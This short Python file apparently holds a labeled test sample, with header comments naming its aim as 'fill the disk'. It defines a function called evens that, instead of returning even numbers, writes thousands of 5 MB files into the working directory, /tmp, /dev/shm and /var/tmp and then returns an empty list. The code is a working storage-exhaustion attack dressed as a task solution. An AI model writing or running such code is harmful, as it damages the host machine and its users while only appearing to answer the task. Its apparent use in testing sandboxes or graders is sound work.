# tries: fill the disk
# look: no
# deserves: evens_test 2
# not run elsewhere: it would hurt the machine
# %% evens
def evens(numbers):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            for n in range(1000):
                with open(f"{folder}/full-{n}", "wb") as file:
                    file.write(bytes(5_000_000))
        except OSError:
            continue
    return []
